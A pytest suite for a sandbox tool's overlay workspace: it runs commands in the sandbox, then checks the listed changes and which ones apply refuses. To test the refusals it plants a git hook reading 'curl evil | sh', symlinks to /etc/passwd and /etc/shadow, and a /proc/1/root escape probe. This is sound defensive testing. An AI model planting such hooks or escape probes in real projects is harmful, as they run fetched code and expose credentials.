"""Overlay runs end to end: real bubblewrap, a real overlay mount made by the launcher,
as root and as uid 65534; review, apply (three-way, protected set, symlinks), discard.

Each "refused" test has its "applied" twin beside it.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import stat
import subprocess
import sysconfig
import time
from pathlib import Path

import pytest

from tests.conftest import World, _nobody_python, require

pytestmark = pytest.mark.usefixtures("kernel")

WHO = ("root", "nobody")

#: writes, a deletion, a rename, a mode change, a hard link, a symlink inside, a
#: directory replaced by a file, a new directory tree, a file opened for writing and
#: left as it was (a copy-up that is no change)
SCRIPT = (
    "set -e; echo changed > a.txt; rm del.txt; mv old.txt new.txt; chmod 755 run.sh; "
    "ln keep.txt hard.txt; ln -s keep.txt in.lnk; rm -r dir2; echo f > dir2; "
    "mkdir -p nd/sub; echo z > nd/sub/z.txt; printf '\\0\\1\\2' > blob.bin; "
    ": >> same.txt"
)


def _populate(ws: Path) -> None:
    (ws / "a.txt").write_text("hello\n")
    (ws / "del.txt").write_text("delete me\n")
    (ws / "old.txt").write_text("a file that moves, with content of its own\n")
    (ws / "run.sh").write_text("#!/bin/sh\necho run\n")
    os.chmod(ws / "run.sh", 0o644)
    (ws / "keep.txt").write_text("kept\n")
    (ws / "same.txt").write_text("same\n")
    (ws / "dir2").mkdir()
    (ws / "dir2" / "inner.txt").write_text("inner\n")


def _tree(root: Path) -> dict[str, tuple[str, int, str]]:
    """Every entry below ``root``: (type, mode, content or link target)."""
    out = {}
    for dirpath, dirs, files in os.walk(root):
        for name in [*dirs, *files]:
            full = Path(dirpath, name)
            rel = str(full.relative_to(root))
            st = full.lstat()
            if stat.S_ISLNK(st.st_mode):
                out[rel] = ("link", 0, os.readlink(full))
            elif stat.S_ISDIR(st.st_mode):
                out[rel] = ("dir", stat.S_IMODE(st.st_mode), "")
            else:
                out[rel] = ("file", stat.S_IMODE(st.st_mode), full.read_bytes().hex())
    return out


_CHOWNED: set[Path] = set()


def nobody_command(world: World) -> tuple[list[str], dict[str, str]]:
    """The command and environment that run the CLI as uid 65534 in ``world``.

    The world is handed to uid 65534 once (as_nobody does it on every call): a chown
    between a run and its apply is a change on the host, which apply rightly refuses.
    """
    if os.getuid() != 0:
        return list(world.command), dict(world.env)
    python = _nobody_python()
    require(python is not None and shutil.which("setpriv") is not None, "no setpriv/python")
    assert python is not None
    if world.root not in _CHOWNED:
        subprocess.run(["chown", "-R", "65534:65534", str(world.root)], check=True)
        _CHOWNED.add(world.root)
    src = Path(__file__).resolve().parents[2] / "src"
    env = dict(
        world.env,
        PYTHONPATH=f"{src}:{sysconfig.get_paths()['purelib']}",
        XDG_CACHE_HOME=str(world.root / "cache"),
    )
    setpriv = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
    return [*setpriv, python, "-m", "stockade"], env


def cli(
    world: World, who: str, *args: str, timeout: float = 60
) -> subprocess.CompletedProcess[str]:
    if who == "nobody":
        cmd, env = nobody_command(world)
        return subprocess.run(
            [*cmd, *args],
            cwd=world.workspace,
            env=env,
            capture_output=True,
            text=True,
            timeout=timeout,
            check=False,
        )
    require(os.getuid() == 0, "the root variant needs root (run the suite as root)")
    return world.stockade(*args, timeout=timeout)


def run_id_of(proc: subprocess.CompletedProcess[str]) -> str:
    for line in proc.stderr.splitlines():
        if line.startswith("stockade: overlay run "):
            return line.split()[3].rstrip(":")
    raise AssertionError(f"no overlay run id in stderr: {proc.stderr!r}")


def changes_of(world: World, who: str, run: str) -> dict[str, dict[str, object]]:
    proc = cli(world, who, "changes", "--json", run)
    assert proc.returncode == 0, proc.stderr
    return {c["path"]: c for c in json.loads(proc.stdout)["changes"]}


@pytest.mark.parametrize("who", WHO)
def test_overlay_run_leaves_the_workspace_untouched_and_lists_every_change(
    world: World, who: str
) -> None:
    _populate(world.workspace)
    before = _tree(world.workspace)
    proc = cli(world, who, "run", "--overlay", "--", "sh", "-c", f"{SCRIPT}; cat a.txt dir2")
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "changed\nf\n"  # the sandbox sees its own writes
    assert _tree(world.workspace) == before  # the real workspace does not
    changes = changes_of(world, who, run_id_of(proc))
    kinds = {path: c["kind"] for path, c in changes.items()}
    assert kinds == {
        "a.txt": "modified",
        "del.txt": "deleted",
        "new.txt": "renamed",
        "run.sh": "mode",
        "hard.txt": "added",
        "in.lnk": "added",
        "dir2": "replaced",
        "dir2/inner.txt": "deleted",
        "nd": "added",
        "nd/sub": "added",
        "nd/sub/z.txt": "added",
        "blob.bin": "added",
    }
    assert changes["new.txt"]["old_path"] == "old.txt"
    assert changes["run.sh"]["mode"] == "0o755"
    assert changes["run.sh"]["old_mode"] == "0o644"
    assert changes["in.lnk"]["type"] == "symlink"
    assert changes["in.lnk"]["target"] == "keep.txt"
    assert changes["a.txt"]["size"] == 8
    assert changes["a.txt"]["old_size"] == 6
    assert changes["blob.bin"].get("binary") is True
    assert "keep.txt" not in changes
    assert "same.txt" not in changes


@pytest.mark.parametrize("who", WHO)
def test_apply_gives_what_a_read_write_run_gives(world: World, who: str, tmp_path: Path) -> None:
    # The twin of the test above: the same script, read-write, in a second workspace.
    twin = world.root / "twin"
    twin.mkdir()
    shutil.copy(world.workspace / "README", twin / "README")
    _populate(twin)
    _populate(world.workspace)
    rw = cli(world, who, "run", "--workspace", str(twin), "--", "sh", "-c", SCRIPT)
    assert rw.returncode == 0, rw.stderr
    proc = cli(world, who, "run", "--overlay", "--", "sh", "-c", SCRIPT)
    assert proc.returncode == 0, proc.stderr
    run = run_id_of(proc)
    applied = cli(world, who, "apply", run)
    assert applied.returncode == 0, applied.stdout + applied.stderr
    assert _tree(world.workspace) == _tree(twin)
    # Everything applied: the layer is empty now.
    assert changes_of(world, who, run) == {}


@pytest.mark.parametrize("who", WHO)
def test_diff_shows_text_and_names_binary_files(world: World, who: str) -> None:
    _populate(world.workspace)
    proc = cli(world, who, "run", "--overlay", "--", "sh", "-c", SCRIPT)
    run = run_id_of(proc)
    diff = cli(world, who, "diff", run, "a.txt", "blob.bin")
    assert diff.returncode == 0, diff.stderr
    assert "-hello\n+changed\n" in diff.stdout
    assert "Binary files /dev/null and b/blob.bin differ" in diff.stdout
    assert "del.txt" not in diff.stdout  # only the paths asked for
    as_json = json.loads(cli(world, who, "diff", "--json", run, "a.txt").stdout)
    assert [c["path"] for c in as_json["changes"]] == ["a.txt"]


@pytest.mark.parametrize("who", WHO)
def test_apply_refuses_a_file_changed_on_the_host_since_the_run_began(
    world: World, who: str
) -> None:
    _populate(world.workspace)
    proc = cli(world, who, "run", "--overlay", "--", "sh", "-c", "echo mine > a.txt; echo n > new")
    run = run_id_of(proc)
    (world.workspace / "a.txt").write_text("edited on the host\n")
    out = cli(world, who, "apply", "--json", run)
    assert out.returncode == 1
    outcomes = {o["path"]: o for o in json.loads(out.stdout)["outcomes"]}
    assert outcomes["a.txt"]["action"] == "refused"
    assert "changed on the host" in outcomes["a.txt"]["reason"]
    # its twin, untouched on the host, is applied
    assert outcomes["new"]["action"] == "applied"
    assert (world.workspace / "a.txt").read_text() == "edited on the host\n"
    assert (world.workspace / "new").read_text() == "n\n"
    # the refused change stays in the layer
    assert set(changes_of(world, who, run)) == {"a.txt"}


def test_apply_refuses_a_change_made_on_the_host_during_the_run(world: World) -> None:
    """The host edits the file while the run still runs: the base recorded at the end
    already knows the file moved on."""
    _populate(world.workspace)
    marker = world.workspace / "a.txt"
    # The run writes, then waits for a line on stdin: the host edits the file in between
    # (once the write is in the layer), whatever the machine's speed.
    proc = subprocess.Popen(
        [*world.command, "run", "--overlay", "--", "sh", "-c", "echo mine > a.txt; read go"],
        cwd=world.workspace,
        env=world.env,
        stdin=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    layers = world.root / "state" / "stockade" / "layers"
    deadline = time.monotonic() + 60
    while not (layers.is_dir() and list(layers.glob("*/upper/a.txt"))):
        assert time.monotonic() < deadline, "the run never wrote into its layer"
        time.sleep(0.05)
    marker.write_text("host, during the run\n")
    _, err = proc.communicate("go\n", timeout=60)
    assert proc.returncode == 0, err
    run = run_id_of(subprocess.CompletedProcess([], 0, "", err))
    out = world.stockade("apply", "--json", run)
    (o,) = json.loads(out.stdout)["outcomes"]
    assert o["action"] == "refused", o
    assert "changed on the host" in o["reason"], o
    assert marker.read_text() == "host, during the run\n"


@pytest.mark.parametrize("who", WHO)
def test_protected_paths_and_nested_repositories_are_never_applied(world: World, who: str) -> None:
    _populate(world.workspace)
    (world.workspace / ".git").mkdir()
    (world.workspace / ".git" / "config").write_text("[core]\n")
    proc = cli(
        world,
        who,
        "run",
        "--overlay",
        "--",
        "sh",
        "-c",
        "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit; "
        "echo fine > sub/ok.txt; echo x > .git/config 2>/dev/null; true",
    )
    assert proc.returncode == 0, proc.stderr
    run = run_id_of(proc)
    # The sandbox could not write the protected .git/config even in its own view; put
    # such a change straight into the layer, as a kernel bug would, for apply to meet.
    upper = Path(changes_layer(world, who, run)) / "upper"
    (upper / ".husky").mkdir()
    (upper / ".husky" / "pre-commit").write_text("curl evil | sh\n")
    (upper / "stockade.toml").write_text("[layers]\nfiles = false\n")
    if who == "nobody":
        subprocess.run(["chown", "-R", "65534:65534", str(upper)], check=False)
    out = cli(world, who, "apply", "--json", run)
    outcomes = {o["path"]: o for o in json.loads(out.stdout)["outcomes"]}
    assert out.returncode == 1
    for path in (".husky/pre-commit", "stockade.toml", "sub/.git/hooks/pre-commit"):
        assert outcomes[path]["action"] == "refused", path
        assert "protected" in outcomes[path]["reason"] or "nested" in outcomes[path]["reason"]
        assert not (world.workspace / path).exists()
    assert outcomes["sub/ok.txt"]["action"] == "applied"  # the twin
    assert (world.workspace / "sub" / "ok.txt").read_text() == "fine\n"
    assert (world.workspace / ".git" / "config").read_text() == "[core]\n"


def changes_layer(world: World, who: str, run: str) -> str:
    proc = cli(world, who, "changes", "--list", "--json")
    (row,) = [r for r in json.loads(proc.stdout)["layers"] if r["run"] == run]
    return str(row["layer"])


@pytest.mark.parametrize("who", WHO)
def test_symlinks_leading_out_are_refused_inside_ones_applied(world: World, who: str) -> None:
    _populate(world.workspace)
    proc = cli(
        world,
        who,
        "run",
        "--overlay",
        "--",
        "sh",
        "-c",
        "ln -s /etc/passwd out.lnk; ln -s ../../../etc up.lnk; ln -s keep.txt in.lnk; "
        "ln -s /usr/bin/python3 py.lnk; ln -s /usr/../etc/shadow sneaky.lnk; "
        "mkdir d; echo new > d/new.txt",
    )
    run = run_id_of(proc)
    # After the run, the host turns the directory the change goes into into a symlink
    # leading out: the file must not be written through it.
    outside = world.root / "outside"
    outside.mkdir()
    os.chmod(outside, 0o777)
    (world.workspace / "d").symlink_to(outside)
    out = cli(world, who, "apply", "--json", run)
    outcomes = {o["path"]: o for o in json.loads(out.stdout)["outcomes"]}
    assert outcomes["out.lnk"]["action"] == "refused"
    assert "leads out of the workspace" in outcomes["out.lnk"]["reason"]
    assert outcomes["up.lnk"]["action"] == "refused"
    assert outcomes["d/new.txt"]["action"] == "refused"
    assert list(outside.iterdir()) == []
    assert outcomes["sneaky.lnk"]["action"] == "refused"
    assert outcomes["in.lnk"]["action"] == "applied"  # the twin
    assert outcomes["py.lnk"]["action"] == "applied"  # a system program (a venv's python)
    assert os.readlink(world.workspace / "in.lnk") == "keep.txt"


@pytest.mark.parametrize("who", WHO)
def test_a_killed_run_leaves_the_workspace_untouched_and_its_layer_listable(
    world: World, who: str
) -> None:
    _populate(world.workspace)
    before = _tree(world.workspace)
    if who == "root":
        require(os.getuid() == 0, "the root variant needs root (run the suite as root)")
    cmd, env = nobody_command(world) if who == "nobody" else (list(world.command), world.env)
    proc = subprocess.Popen(
        [*cmd, "run", "--overlay", "--", "sh", "-c", "echo mine > a.txt; echo n > b.txt; sleep 60"],
        cwd=world.workspace,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    layers = world.root / "state" / "stockade" / "layers"
    deadline = time.monotonic() + 30
    found: list[Path] = []
    while time.monotonic() < deadline:
        found = list(layers.glob("*/upper/b.txt")) if layers.is_dir() else []
        if found:
            break
        time.sleep(0.05)
    assert found, "the run never wrote into its layer"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=10)
    # The killed run's empty placeholders of protected paths (the existing mechanism,
    # see runtime/_placeholders.py) are removed by the next run; past that, nothing of
    # the run is in the workspace.
    tidy = cli(world, who, "run", "--", "true")
    assert tidy.returncode == 0, tidy.stderr
    assert _tree(world.workspace) == before
    run = found[0].parent.parent.name
    listed = json.loads(cli(world, who, "changes", "--list", "--json").stdout)["layers"]
    (row,) = [r for r in listed if r["run"] == run]
    assert row["state"] == "interrupted"
    assert set(changes_of(world, who, run)) == {"a.txt", "b.txt"}
    # Without a recorded base the run's start is the base: untouched files apply.
    out = cli(world, who, "apply", run)
    assert out.returncode == 0, out.stdout + out.stderr
    assert (world.workspace / "a.txt").read_text() == "mine\n"


@pytest.mark.parametrize("who", WHO)
def test_discard_drops_the_layer_and_keeps_the_workspace(world: World, who: str) -> None:
    _populate(world.workspace)
    before = _tree(world.workspace)
    proc = cli(world, who, "run", "--overlay", "--", "sh", "-c", SCRIPT)
    run = run_id_of(proc)
    assert cli(world, who, "discard", run).returncode == 0
    assert _tree(world.workspace) == before
    gone = cli(world, who, "changes", run)
    assert gone.returncode == 125
    assert "no overlay layer" in gone.stderr


def test_the_layer_is_out_of_the_sandboxs_reach(world: World) -> None:
    _populate(world.workspace)
    state = world.root / "state"
    proc = world.stockade(
        "run",
        "--overlay",
        "--",
        "sh",
        "-c",
        f"echo w > a.txt; ls -A /run/stockade/overlay; ls {state} 2>&1; "
        # bubblewrap's init keeps the mount namespace where the layer is bound, unmasked:
        # Landlock keeps its /proc/1/root out of reach.
        "ls /proc/1/root/run/stockade/overlay/upper >/dev/null 2>&1 && echo REACHED; "
        "cat a.txt",
    )
    assert proc.returncode == 0, proc.stderr
    assert "REACHED" not in proc.stdout
    lines = proc.stdout.splitlines()
    assert lines[-1] == "w"  # the twin: the workspace itself is writable
    assert "No such file or directory" in proc.stdout  # the state directory is not there
    assert "upper" not in proc.stdout
    assert "work" not in proc.stdout.replace("w\n", "")


def test_overlay_fails_closed_without_the_files_layer(world: World) -> None:
    _populate(world.workspace)
    proc = world.stockade(
        "run", "--overlay", "--disable", "files", "--", "sh", "-c", "echo x > a.txt"
    )
    assert proc.returncode == 125
    assert "overlay workspace without the files layer" in proc.stderr
    assert (world.workspace / "a.txt").read_text() == "hello\n"
    proc = world.stockade("run", "--overlay", "--disable", "container", "--", "true")
    assert proc.returncode == 125
    assert "without the container layer" in proc.stderr
    proc = world.stockade("run", "--overlay", "--backend", "landlock", "--", "true")
    assert proc.returncode == 125
    assert "landlock backend" in proc.stderr
    # the twin: with the layers on, the same run works
    ok = world.stockade("run", "--overlay", "--", "sh", "-c", "echo x > a.txt")
    assert ok.returncode == 0, ok.stderr


def test_workspace_mode_overlay_in_the_policy(world: World) -> None:
    _populate(world.workspace)
    policy = world.root / "policy.toml"
    policy.write_text('[filesystem]\nworkspace = { path = ".", mode = "overlay" }\n')
    proc = world.stockade("run", "--policy", str(policy), "--", "sh", "-c", "echo p > a.txt")
    assert proc.returncode == 0, proc.stderr
    assert (world.workspace / "a.txt").read_text() == "hello\n"
    assert "a.txt" in changes_of(world, "root" if os.getuid() == 0 else "nobody", run_id_of(proc))
    policy.write_text('[filesystem]\nworkspace = { path = ".", mode = "copy" }\n')
    bad = world.stockade("run", "--policy", str(policy), "--", "true")
    assert bad.returncode == 125
    assert "filesystem.workspace.mode" in bad.stderr
    # the twin: the default mode is read-write
    policy.write_text('[filesystem]\nworkspace = { path = "." }\n')
    rw = world.stockade("run", "--policy", str(policy), "--", "sh", "-c", "echo p > a.txt")
    assert rw.returncode == 0
    assert (world.workspace / "a.txt").read_text() == "p\n"


def test_review_shows_the_changes_beside_the_network(world: World, ok_server: int) -> None:
    _populate(world.workspace)
    (world.workspace / ".git").mkdir()
    policy = world.root / "policy.toml"
    policy.write_text(
        f'[network]\nallow = ["web.test:{ok_server}"]\nhosts = {{ "web.test" = "127.0.0.1" }}\n'
    )
    fetch = (
        "import urllib.request as u, sys\n"
        "for url in sys.argv[1:]:\n"
        "    try:\n"
        "        print(u.urlopen(url, timeout=10).read().decode())\n"
        "    except Exception as e:\n"
        "        print('failed', type(e).__name__)\n"
    )
    proc = world.stockade(
        "run",
        "--overlay",
        "--policy",
        str(policy),
        "--",
        "sh",
        "-c",
        f'echo new > a.txt; mkdir -p sub/.git && echo x > sub/.git/config; python3 -c "{fetch}" '
        f"http://web.test:{ok_server}/ http://other.test:{ok_server}/",
    )
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.splitlines()
    assert lines[0] == "ok", lines  # the allowed host answers
    assert lines[1].startswith("failed"), lines  # the other is refused
    run = run_id_of(proc)
    doc = json.loads(world.stockade("review", "--json", run).stdout)
    files = {f["path"]: f for f in doc["files"]}
    assert files["a.txt"]["apply"] == "ok"
    assert files["sub/.git/config"]["apply"] == "refused"
    assert "git" in files["sub/.git/config"]["refused_because"]
    hosts = [r["host"] for r in doc["network"]["reached"]]
    assert f"web.test:{ok_server}" in hosts
    refused = [r["host"] for r in doc["network"]["refused"]]
    assert any(h.startswith("other.test") for h in refused), doc["network"]
    text = world.stockade("review", run).stdout
    assert "REFUSED" in text
    assert "reached  web.test" in text
    # review changes nothing: the dry run leaves the layer as it was
    assert set(changes_of(world, "root" if os.getuid() == 0 else "nobody", run)) >= {"a.txt"}
    assert (world.workspace / "a.txt").read_text() == "hello\n"


WORKLOAD = (
    "set -e; /usr/bin/python3 -m venv --system-site-packages .venv; "
    ".venv/bin/pip install -q --no-index --no-build-isolation -e . >/dev/null 2>&1; "
    ".venv/bin/python -m unittest -q 2>&1 | tail -1"
)


def _package(ws: Path) -> None:
    (ws / "pyproject.toml").write_text(
        '[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n'
        '[project]\nname = "demo_pkg"\nversion = "0.1"\n'
    )
    (ws / "demo_pkg").mkdir()
    (ws / "demo_pkg" / "__init__.py").write_text("def add(a, b):\n    return a + b\n")
    (ws / "test_demo.py").write_text(
        "import unittest, demo_pkg\n\n"
        "class T(unittest.TestCase):\n"
        "    def test_add(self):\n"
        "        self.assertEqual(demo_pkg.add(2, 3), 5)\n"
    )


def test_a_real_workload_gives_the_same_result_after_apply(world: World) -> None:
    """pip install -e . and the package's tests: read-write in a twin workspace, overlay
    then apply here; the same output, the same tree, and the applied venv works."""
    require(Path("/usr/bin/python3").exists(), "no /usr/bin/python3 with venv")
    twin = world.root / "twin"
    twin.mkdir()
    shutil.copy(world.workspace / "README", twin / "README")
    _package(twin)
    _package(world.workspace)
    rw = world.stockade("run", "--workspace", str(twin), "--", "sh", "-c", WORKLOAD, timeout=300)
    assert rw.returncode == 0, rw.stderr
    assert rw.stdout.strip() == "OK"
    proc = world.stockade("run", "--overlay", "--", "sh", "-c", WORKLOAD, timeout=300)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == rw.stdout
    assert not (world.workspace / ".venv").exists()
    applied = world.stockade("apply", run_id_of(proc), timeout=300)
    refused = [line for line in applied.stdout.splitlines() if line.startswith("refused")]
    assert applied.returncode == 0, refused
    # The venv holds absolute paths, so compare names and types, not content.
    here = {k: v[0] for k, v in _tree(world.workspace).items()}
    there = {k: v[0] for k, v in _tree(twin).items()}
    assert here == there
    again = world.stockade(
        "run", "--", "sh", "-c", ".venv/bin/python -m unittest -q 2>&1 | tail -1", timeout=120
    )
    assert again.stdout.strip() == "OK", again.stdout + again.stderr


def test_the_overlay_layer_switched_off_gives_a_read_write_workspace(world: World) -> None:
    _populate(world.workspace)
    off = world.stockade(
        "run", "--overlay", "--disable", "overlay", "--", "sh", "-c", "echo off > a.txt"
    )
    assert off.returncode == 0, off.stderr
    assert (world.workspace / "a.txt").read_text() == "off\n"
    assert "overlay run" not in off.stderr
    # the twin: with the layer on, the write stays in the layer
    on = world.stockade("run", "--overlay", "--", "sh", "-c", "echo on > a.txt")
    assert on.returncode == 0, on.stderr
    assert (world.workspace / "a.txt").read_text() == "off\n"
    assert "a.txt" in changes_of(world, "root" if os.getuid() == 0 else "nobody", run_id_of(on))


@pytest.mark.parametrize("who", WHO)
def test_a_workspace_path_with_a_colon_or_a_comma_is_one_lower_layer(
    world: World, who: str
) -> None:
    """overlayfs's "lowerdir" splits its value at ':' (a workspace /w:a,b would be the
    lower layers /w and a,b): the launcher passes the path whole (lowerdir+, Linux 6.8+),
    and refuses it by name on an older kernel."""
    ws = world.root / "w:a,b"
    ws.mkdir()
    (ws / "a.txt").write_text("hello\n")
    proc = cli(
        world,
        who,
        "run",
        "--overlay",
        "--workspace",
        str(ws),
        "--",
        "sh",
        "-c",
        "cat a.txt; echo x > a.txt",
    )
    release = tuple(int(x) for x in os.uname().release.split(".")[:2] if x.isdigit())
    if release < (6, 8):
        assert proc.returncode == 125, proc.stderr
        assert "',', ':' or a backslash" in proc.stderr
        return
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout == "hello\n"  # the workspace itself is the lower layer
    assert (ws / "a.txt").read_text() == "hello\n"
    assert "a.txt" in changes_of(world, who, run_id_of(proc))
